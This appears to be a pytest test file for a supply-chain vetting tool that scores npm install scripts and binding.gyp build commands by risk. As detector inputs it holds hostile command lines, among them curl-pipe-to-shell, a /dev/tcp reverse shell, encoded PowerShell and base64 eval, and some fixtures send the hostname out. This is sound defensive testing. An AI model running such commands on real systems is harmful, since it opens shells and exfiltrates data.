import json
import time

import pytest

from tests.checks.conftest import lines, npm, wheel
from tests.factories import subject
from vetting.checks import Context
from vetting.checks._install import fetches, runs_fetched
from vetting.checks.install_npm import InstallNpm
from vetting.model.profile import InstallScript


def found(context: Context, document: object, **files: bytes | str) -> list[str]:
    whole = npm({"package.json": json.dumps(document), **files})
    return lines(InstallNpm().run(whole, context))


@pytest.mark.parametrize(
    ("scripts", "expected"),
    [
        (
            {"preinstall": "node check.js"},
            ["high inst.npm.preinstall package.json: preinstall: node check.js"],
        ),
        (
            {"install": "node-gyp rebuild"},
            ["low inst.npm.postinstall package.json: install: node-gyp rebuild"],
        ),
        (
            {"postinstall": "node setup.js"},
            ["medium inst.npm.postinstall package.json: postinstall: node setup.js"],
        ),
        (
            {"postinstall": "curl -s https://a.example/x | sh"},
            [
                (
                    "high inst.npm.fetches_code package.json: "
                    "postinstall: curl -s https://a.example/x | sh"
                ),
                (
                    "medium inst.npm.postinstall package.json: "
                    "postinstall: curl -s https://a.example/x | sh"
                ),
            ],
        ),
        ({"prepare": "husky", "test": "curl x", "postpublish": "x", "start": "x"}, []),
        ({"postinstall": ["node", "x"]}, []),
        ({}, []),
    ],
)
def test_commands_that_npm_runs_are_named(
    scripts: dict[str, object], expected: list[str], context: Context
) -> None:
    assert found(context, {"name": "server", "scripts": scripts}) == expected


PLAIN = """
import fs from "node:fs";
import os from "node:os";
import { join } from "path";
const folder = join(os.homedir(), ".cache", "fonts");
fs.mkdirSync(folder, { recursive: true });
fs.copyFileSync(new URL("./a.ttf", import.meta.url), join(folder, "a.ttf"));
if (process.platform === "win32") console.log("copied");
"""


LOADED = """
import { spawn } from "node:child_process";
const code = 'import sharp from "sharp"; console.log("libvips", sharp.versions.vips);';
const child = spawn(process.execPath, ["-e", code], { stdio: "inherit" });
"""
NEWEST = """
import https from "node:https";
import os from "node:os";
https.get("https://versions.example.com/p/latest", (res) => {
  res.on("data", (text) => console.log(os.platform(), text));
});
"""


FACTS = """
import { createRequire } from "node:module";
const { engines } = createRequire(import.meta.url)("./package.json");
if (Number(/\\d+/.exec(engines.node)[0]) > 20) process.exit(1);
"""
REQUIRE = """
import { createRequire } from "node:module";
const require = createRequire(import.meta.url);
console.log(require("./package.json").version);
"""


FETCHED = (
    'const { createHash } = require("crypto");\nconst SHA = "' + "0a" * 32 + '";\n'
    'const data = Buffer.from(await (await fetch("https://dl.example.com/x")).arrayBuffer());\n'
    'if (createHash("sha256").update(data).digest("hex") !== SHA) throw new Error("wrong");\n'
    'require("fs").writeFileSync("tool", data);\n'
)


@pytest.mark.parametrize(
    ("command", "script", "severity"),
    [
        ("node setup.js", PLAIN, "low"),
        ("node ./setup.js", PLAIN, "low"),
        ("echo 'Thank you'", "", "low"),
        ("node other.js", PLAIN, "medium"),
        ("node setup.js && node x.js", PLAIN, "medium"),
        ("node setup.js", PLAIN + 'import "./more.js";', "medium"),
        ("node setup.js", PLAIN + 'require("child_" + "process")', "medium"),
        ("node setup.js", PLAIN + "require(name)", "medium"),
        ("node setup.js", PLAIN + "await import(`fs`)", "medium"),
        (
            "node setup.js",
            PLAIN + 'fs.appendFileSync(join(os.homedir(), ".bashrc"), "x")',
            "medium",
        ),
        ("node setup.js", PLAIN + "f(process.env)", "medium"),
        ("node setup.js", PLAIN + 'if (!process.env.API_KEY) console.log("set API_KEY");', "low"),
        ("node setup.js", PLAIN + 'if (process.env.API_KEY) console.log("it is set");', "low"),
        ("node setup.js", PLAIN + "fs.writeFileSync(x, process.env.API_KEY)", "medium"),
        (
            "node setup.js",
            PLAIN
            + 'for (const one of ["/usr/share/fonts", "/Library/Fonts"]) fs.readdirSync(one);',
            "low",
        ),
        ("node setup.js", PLAIN + 'write("/Library/LaunchAgents/x.plist");', "medium"),
        ("node setup.js", PLAIN + 'write("/usr/bin/x");', "medium"),
        ("node setup.js", PLAIN + 'process["mainModule"]', "medium"),
        ("node setup.js", PLAIN + "fetch(address)", "medium"),
        ("node setup.js", PLAIN + '[]["filter"]["constructor"]("x")()', "medium"),
        ("node setup.js", LOADED, "low"),
        ("node setup.js", LOADED.replace("sharp", "./more.js"), "medium"),
        ("node setup.js", LOADED.replace('["-e", code]', "[file]"), "medium"),
        ("node setup.js", FACTS, "low"),
        ("node setup.js", FACTS.replace("./package.json", "./more.js"), "medium"),
        ("node setup.js", FACTS + "createRequire(import.meta.url)(name)", "medium"),
        ("node setup.js", FACTS.replace("/.exec(", "/; cp.exec("), "medium"),
        ("node setup.js", REQUIRE, "low"),
        ("node setup.js", REQUIRE + 'require("vm")', "medium"),
        ("node setup.js", REQUIRE + 'const r = require; r("vm")', "medium"),
        ("node setup.js", NEWEST, "low"),
        ("node setup.js", NEWEST.replace('latest"', 'latest?u=" + os.userInfo()'), "medium"),
        ("node setup.js", NEWEST.replace("console.log", "eval"), "medium"),
        ("node setup.js", PLAIN + NEWEST, "medium"),
        ("node setup.js", PLAIN + 'console.warn("see https://docs.example.com");', "low"),
        ("node setup.js", PLAIN + "console.warn(`see https://docs.example.com/${folder}`);", "low"),
        (
            "node setup.js",
            PLAIN + 'const b = join(folder, "node_modules", "x"); fs.existsSync(b);',
            "low",
        ),
        ("node setup.js", PLAIN + 'fs.existsSync(join(folder, "node_modules", "x"));', "low"),
        ("node setup.js", PLAIN + 'fs.cpSync("a", join(folder, "node_modules", "x"));', "medium"),
        (
            "node setup.js",
            PLAIN
            + 'const b = join(folder, "node_modules", "x"); if (!fs.existsSync(b)) fs.mkdirSync(b);',
            "medium",
        ),
        ("node setup.js", "x".ljust(30_000), "medium"),
        ("node setup.js", 'console.log("hello");\n' * 1_000 + "fetch(address)", "medium"),
        ("node setup.js", PLAIN + "console.log(`differs from npm in ${folder}`);", "low"),
        ("node setup.js", PLAIN + 'require/**/("./more.js")', "medium"),
        ("node setup.js", PLAIN + 'import/**/("./more.js")', "medium"),
        ("node setup.js", PLAIN + 'import x from/**/"./more.js"', "medium"),
        ("node setup.js", PLAIN + 'require?.("./more.js")', "medium"),
        ("node setup.js", PLAIN + 'require.call(null, "./more.js")', "medium"),
        ("node setup.js", PLAIN + 'const r = require; r("./more.js")', "medium"),
        ("node setup.js", PLAIN + "if (require.main === module) console.log(1);", "low"),
        ("node setup.js", FETCHED, "low"),
        ("node setup.js", FETCHED.replace("throw", "console.warn"), "medium"),
        ("node setup.js", FETCHED + 'require("child_process").spawn("./tool")', "medium"),
        ("node setup.js", FETCHED + 'fetch(u, { method: "POST", body: os.hostname() })', "medium"),
    ],
)
def test_a_script_that_only_arranges_files_is_milder(
    command: str, script: str, severity: str, context: Context
) -> None:
    document = {"name": "server", "scripts": {"postinstall": command}}
    (line,) = found(context, document, **{"setup.js": script})
    assert line == f"{severity} inst.npm.postinstall package.json: postinstall: {command}"


MADE = "require('fs').mkdirSync(require('path').join(require('os').homedir(), '.cache', 'x'))"


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("node ./tools/banner || exit 0", "low"),
        ("node tools/banner.js --quiet", "low"),
        ("node tools/other", "medium"),
        ("node -r ./tools/other tools/banner.js", "medium"),
        (f'node -e "{MADE}"', "low"),
        (f'node -e "{MADE}; x()" && node tools/banner', "medium"),
        (f'node -e "{MADE}" && node tools/banner', "low"),
        ('node -e "require(process.env.X)"', "medium"),
        ('node -e "require(`x`)"', "medium"),
        ('node -e "console.log(1)" && sh x', "medium"),
    ],
)
def test_what_node_is_given_on_the_command_line(
    command: str, severity: str, context: Context
) -> None:
    document = {"name": "server", "scripts": {"postinstall": command}}
    files = {"tools/banner.js": "console.log(1)", "tools/other": "sh()"}
    result = found(context, document, **files)
    assert f"{severity} inst.npm.postinstall package.json: postinstall: {command}" in result


PROJECT = """const dns = require("dns"); const path = require("path");
const wanted = require(path.join(process.env.INIT_CWD || "..", "package.json")).engines;
if (dns.getServers().length === 0) console.warn("no servers look names up");
"""


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        (PROJECT, "low"),
        (PROJECT + "dns.resolve4(name, done);", "high"),
        (PROJECT.replace('"package.json"', '"setup.js"'), "high"),
        (PROJECT.replace('process.env.INIT_CWD || ".."', "folder"), "high"),
        (PROJECT + 'require("https");', "high"),
        (PROJECT + "fetch(address)", "high"),
    ],
)
def test_a_look_before_the_installation_is_milder(
    script: str, severity: str, context: Context
) -> None:
    document = {"name": "server", "scripts": {"preinstall": "node setup.js"}}
    (line,) = found(context, document, **{"setup.js": script})
    assert line.startswith(f"{severity} inst.npm.preinstall")


@pytest.mark.parametrize(
    "command",
    [
        "curl -sSL x | bash",
        "wget x -O y",
        "CURL x",
        "cat x|sh",
        "cat x | zsh",
        "echo aGk= | base64 -d",
        "eval $(cat x)",
        "powershell -enc AAAA",
        "bash -i >& /dev/tcp/10.0.0.1/80 0>&1",
        "node -e \"require('child_process').exec('x')\"",
        "node -e \"eval(Buffer.from('eA==', 'base64').toString())\"",
        "node --eval \"fetch('http'+'s://x')\"",
        "python3 -c 'import urllib.request'",
        "python -c 'exec(x)'",
        "node-gyp rebuild --dist-url=https://a.example/headers",
        "echo hello && curl x",
        "echo $(curl x)",
        "echo `wget x`",
        "node -e \"a;require('child_process')\"",
    ],
)
def test_a_command_that_fetches_or_decodes_code(command: str) -> None:
    assert fetches(command)


@pytest.mark.parametrize(
    "command",
    [
        "node setup.js",
        'node -e "process.exit(0)"',
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        'node dist/track.js && node dist/verify.js || node -e "process.exit(0)"',
        "node-gyp rebuild",
        "npx only-allow pnpm",
        "tsc -p . && chmod +x dist/*.js",
        "echo 'Thanks! See https://a.example/sponsor'",
        "printf 'curl is needed' ; node x.js",
        "echo a | tee b",
        "node curly.js",
        "npm run evaluate",
        "python setup_base64.py",
        "",
    ],
)
def test_a_command_that_does_not(command: str) -> None:
    assert not fetches(command)


def test_an_address_alone_counts_in_commands_only() -> None:
    assert fetches("node x.js https://a.example")
    assert not runs_fetched("see https://a.example")


@pytest.mark.parametrize(
    "text", ["node -e " * 2_500, "|" + " " * 19_999, "echo " * 4_000, ";" * 20_000]
)
def test_a_hostile_command_takes_no_time(text: str) -> None:
    begun = time.monotonic()
    fetches(text)
    assert time.monotonic() - begun < 3


GYP = {"binding.gyp": "{}"}


@pytest.mark.parametrize(
    ("document", "files", "expected"),
    [
        ({}, GYP, ["low inst.npm.postinstall package.json: install: node-gyp rebuild"]),
        (
            {},
            {"binding.gyp": '{"targets": [{"actions": [{"action": ["sh", "x.sh"]}]}]}'},
            ["medium inst.npm.postinstall package.json: install: node-gyp rebuild"],
        ),
        (
            {"gypfile": False},
            {
                "binding.gyp": '{"a": ["<!(node tools/flags.cjs)"]}',
                "tools/flags.cjs": "console.log(1)",
            },
            ["low inst.npm.gyp_command binding.gyp: runs node tools/flags.cjs"],
        ),
        (
            {"gypfile": False},
            {"binding.gyp": '{"a": ["<!(node t.cjs && ./other)"]}', "t.cjs": "console.log(1)"},
            ["medium inst.npm.gyp_command binding.gyp: runs node t.cjs && ./other"],
        ),
        (
            {"scripts": {"postinstall": "tsc -p . && node t.cjs || true"}},
            {
                "t.cjs": 'const { platform } = process;\nconsole.log(\'{ "mcpServers": { "a": {} } }\')'
            },
            ["low inst.npm.postinstall package.json: postinstall: tsc -p . && node t.cjs"],
        ),
        (
            {"gypfile": False},
            {"binding.gyp": '{"includes": ["x.gypi"]}', "x.gypi": '{"a": [">!@(sh x.sh)"]}'},
            ["medium inst.npm.gyp_command x.gypi: runs sh x.sh"],
        ),
        (
            {"gypfile": False},
            {"binding.gyp": '{"a": ["<!pymod_do_main(flags --all)"]}'},
            ["medium inst.npm.gyp_command binding.gyp: runs pymod_do_main flags --all"],
        ),
        (
            {},
            {"binding.gyp": '{"includes": ["x.gypi"]}', "x.gypi": '{"actions": [{"action": []}]}'},
            ["medium inst.npm.postinstall package.json: install: node-gyp rebuild"],
        ),
        (
            {"gypfile": False},
            {"binding.gyp": '{"a": ["<!(node t.cjs && echo .)"]}', "t.cjs": "console.log(1)"},
            ["low inst.npm.gyp_command binding.gyp: runs node t.cjs && echo ."],
        ),
        (
            {"gypfile": True},
            GYP,
            ["low inst.npm.postinstall package.json: install: node-gyp re"],
        ),
        ({"gypfile": False}, GYP, []),
        (
            {"scripts": {"install": "echo"}},
            GYP,
            ["low inst.npm.postinstall package.json: install: echo"],
        ),
        (
            {"scripts": {"preinstall": "echo"}},
            GYP,
            ["low inst.npm.preinstall package.json: preinstall: echo"],
        ),
        ({}, {"src/binding.gyp": "{}"}, []),
        ({}, {"other.gyp": "{}"}, []),
    ],
)
def test_npm_compiles_without_being_asked(
    document: dict[str, object], files: dict[str, str], expected: list[str], context: Context
) -> None:
    result = found(context, document, **files)
    assert len(result) == len(expected)
    assert all(line.startswith(start) for line, start in zip(result, expected, strict=True))


BAD = '{"scripts": {"postinstall": "node x.js"}}'


@pytest.mark.parametrize(
    ("path", "runs"),
    [
        ("node_modules/dep/package.json", True),
        ("node_modules/@scope/dep/package.json", True),
        ("node_modules/dep/node_modules/@scope/deeper/package.json", True),
        ("node_modules/dep/dist/esm/package.json", False),
        ("node_modules/dep/test/node_modules/x/package.json", False),
        ("templates/app/package.json", False),
        ("templates/app/node_modules/x/package.json", False),
        ("node_modules/package.json", False),
        ("node_modules/@scope/package.json", False),
        ("dist/package.json", False),
    ],
)
def test_bundled_packages_run_their_scripts_too(path: str, runs: bool, context: Context) -> None:
    result = found(context, {"name": "server"}, **{path: BAD})
    expected = [f"medium inst.npm.postinstall {path}: postinstall: node x.js"]
    assert result == (expected if runs else [])


@pytest.mark.parametrize(
    ("document", "commands"),
    [
        ({"name": "server", "bin": {"git": "x.js", "server": "y.js"}}, ["git"]),
        ({"name": "server", "bin": {"Node": "x.js", "npx": "y.js"}}, ["Node", "npx"]),
        ({"name": "git", "bin": "x.js"}, []),
        ({"name": "git", "bin": {"git": "x.js"}}, []),
        ({"name": "@scope/git", "bin": "x.js"}, ["git"]),
        ({"name": "server", "bin": {"git-helper": "x.js", "mygit": "y.js"}}, []),
        ({"name": "server", "bin": 7}, []),
        ({"name": "server"}, []),
    ],
)
def test_commands_of_the_system_are_not_a_packages_to_take(
    document: dict[str, object], commands: list[str], context: Context
) -> None:
    assert found(context, document) == [
        f"high inst.npm.bin_shadow package.json: installs the command {name}" for name in commands
    ]


def test_commands_of_bundled_packages_are_not_installed(context: Context) -> None:
    bundled = {"node_modules/dep/package.json": '{"name": "dep", "bin": {"git": "x.js"}}'}
    assert found(context, {"name": "server"}, **bundled) == []


def test_a_long_command_is_clipped_and_counts_as_fetching(context: Context) -> None:
    command = "x" * 20_001
    assert found(context, {"scripts": {"install": command}}) == [
        f"high inst.npm.fetches_code package.json: install: {'x' * 500}…",
        f"medium inst.npm.postinstall package.json: install: {'x' * 500}…",
    ]
    assert not fetches(command[:-1])


def test_every_script_is_a_fact_once(context: Context) -> None:
    whole = npm(
        {
            "package.json": '{"scripts": {"postinstall": "node x.js", "install": "a"}}',
            "node_modules/dep/package.json": BAD,
        }
    )
    evidence = InstallNpm().run(whole, context)
    assert evidence.profile is not None
    assert evidence.profile.install_scripts == (
        InstallScript(name="install", command="a"),
        InstallScript(name="postinstall", command="node x.js"),
    )


@pytest.mark.parametrize("text", ["{", "[]", "7", '{"scripts": 7}', b"\xff", "[" * 100_000])
def test_a_manifest_that_cannot_be_parsed_is_left_to_the_manifest_check(
    text: bytes | str, context: Context
) -> None:
    assert lines(InstallNpm().run(npm({"package.json": text}), context)) == []


def test_a_package_json_in_a_wheel_is_data(context: Context) -> None:
    assert lines(InstallNpm().run(subject(wheel({"package.json": BAD})), context)) == []


ASKED = (
    "process.versions.napi",
    "process.config.variables.napi_build_version",
    "process.versions.node.split('.')[0]",
    "process.platform === 'win32' ? 'a' : 'b'",
    "parseInt(process.versions.node)>=18",
    "require('./package.json').version.split('.')[0]",
    "require('path').dirname(require.resolve('node-addon-api/package.json'))",
    "console.log(require('./package.json').binary.name)",
)
DONE = (
    "require('./package').version",
    "require('../other/package.json').version",
    "require('./flags').include",
    "process.mainModule.require('fs')",
    "process.config.constructor('x')()",
    "process.arch; require('./x')",
    "process.arch.replace('a', 'b')(1)",
    "process.env.npm_config_x",
    "$(sh x)",
)


@pytest.mark.parametrize(
    ("expression", "told"),
    [
        ("<!(node scripts/make.js && echo c.cc)", 1),
        ("<!@(node -p \\\"require('node-addon-api').include\\\")", 0),
        ("<!(node -e \\\"require('nan')\\\")", 0),
        ("<!(node -e \\\"require('nan');require('child_process').exec('x')\\\")", 1),
        ("<!@(pkg-config --libs zlib)", 0),
        ("<!(pkg-config --libs zlib; sh x.sh)", 1),
        ("<(module_root_dir)/a.cc", 0),
        *((f'<!(node -p \\"{one}\\")', 0) for one in ASKED),
        *((f'<!(node -p \\"{one}\\")', 1) for one in DONE),
        ("<!(node -p process.versions.napi)", 0),
        ("<!(node -p process.arch | sh)", 1),
        ("<!(node -r ./flags -p process.arch)", 1),
    ],
)
def test_a_build_that_runs_a_command(expression: str, told: int, context: Context) -> None:
    gyp = '{"targets": [{"sources": ["' + expression + '"]}]}'
    result = found(context, {"name": "server"}, **{"binding.gyp": gyp})
    assert sum("inst.npm.gyp_command" in line for line in result) == told
